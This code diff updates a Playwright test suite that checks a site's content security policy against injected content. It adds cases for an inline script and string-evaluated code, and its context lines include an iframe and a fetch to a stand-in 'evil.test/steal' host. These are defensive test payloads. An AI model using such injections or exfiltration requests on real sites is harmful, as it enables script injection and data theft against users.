@@ -4,7 +4,7 @@ import { openPage, routes, scrollThrough } from "./site";
 import { standForThirdParties } from "./visitor";
 
 /** Collects violations of any policy. To be called before the page is opened. */
-async function watchPolicy(page: Page): Promise<() => Promise<unknown>> {
+async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
   await page.addInitScript(() => {
     const violations: string[] = [];
     Object.assign(window, { violations });
@@ -12,7 +12,7 @@ async function watchPolicy(page: Page): Promise<() => Promise<unknown>> {
       violations.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
     });
   });
-  return () => page.evaluate("window.violations");
+  return () => page.evaluate<string[]>("window.violations");
 }
 
 test("dialogs, maps, theme, search and navigation violate nothing", async ({ page }) => {
@@ -87,6 +87,13 @@ const injections = {
     frame.src = "https://evil.test/";
     document.body.append(frame);
   },
+  "HTML with a script": () => {
+    document.body.innerHTML = "<script>document.title='attacked'</script>";
+  },
+  "a text as script": () => {
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack
+    setTimeout("document.title='attacked'");
+  },
   "a connection to another host": () => {
     void fetch("https://evil.test/steal").catch(() => undefined);
   },
@@ -98,8 +105,11 @@ for (const [name, inject] of Object.entries(injections)) {
     const violations = await watchPolicy(page);
     await openPage(page, "/");
     const title = await page.title();
-    await page.evaluate(inject);
-    await expect.poll(violations).not.toEqual([]);
+    const hasThrown = await page.evaluate(inject).then(
+      () => false,
+      () => true,
+    );
+    await expect.poll(async () => hasThrown || (await violations()).length > 0).toBe(true);
     expect(await page.title()).toBe(title);
     await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
     expect(requested).toEqual([]);
